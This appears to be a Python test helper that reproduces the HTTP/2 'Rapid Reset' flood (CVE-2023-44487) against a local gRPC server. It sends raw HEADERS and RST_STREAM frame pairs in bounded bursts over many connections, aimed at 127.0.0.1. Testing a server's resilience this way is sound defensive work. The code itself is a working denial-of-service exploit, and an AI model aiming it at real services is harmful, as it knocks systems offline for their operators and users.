"""A flood of resets as of CVE-2023-44487: calls that are opened and reset at once, on one connection
after the other, in raw HTTP/2 frames. Bounded in count; only ever aimed at the tests' own servers.
"""

import contextlib
import socket
import ssl
import struct
import threading

HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
END_HEADERS = 4
CANCEL = 8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CALLS_A_WRITE = 200


def _frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream) + payload


def _literal(text):
    return bytes([len(text)]) + text.encode()


def _header_block(authority):
    """HPACK without its table: POST of a Synthesize call."""
    return (b"\x83\x87"  # :method POST, :scheme https
            + b"\x04" + _literal("/duet.v1.MotionSynthesis/Synthesize")  # :path
            + b"\x01" + _literal(authority)
            + b"\x0f\x10" + _literal("application/grpc")  # content-type
            + b"\x00" + _literal("te") + _literal("trailers"))


def _discard(connection):
    with contextlib.suppress(OSError):
        while connection.recv(65536):
            pass


def _connect(port, encrypted):
    plain = socket.create_connection(("127.0.0.1", port), timeout=20)
    if not encrypted:
        return plain
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(plain)


def _flood_connection(port, encrypted, wanted):
    """Opens and resets calls until `wanted` were or the connection ends; how many."""
    try:
        connection = _connect(port, encrypted)
    except OSError:
        return 0
    sent = 0
    block = _header_block(f"127.0.0.1:{port}")
    with connection:
        reader = threading.Thread(target=_discard, args=(connection,), daemon=True)
        try:
            connection.sendall(PREFACE + _frame(SETTINGS, 0, 0))
            reader.start()
            while sent < wanted:
                burst = b"".join(
                    _frame(HEADERS, END_HEADERS, stream, block)
                    + _frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                    for stream in range(2 * sent + 1, 2 * (sent + CALLS_A_WRITE) + 1, 2))
                connection.sendall(burst)
                sent += CALLS_A_WRITE
        except OSError:
            pass  # the other side has had enough
        with contextlib.suppress(OSError):
            connection.shutdown(socket.SHUT_RDWR)
        if reader.ident:
            reader.join()
    return sent


def flood(port, encrypted, resets, connections=50):
    """Tries to send so many resets over at most so many connections; returns how many were sent."""
    sent = 0
    for _ in range(connections):
        if sent >= resets:
            break
        sent += _flood_connection(port, encrypted, resets - sent)
    return sent
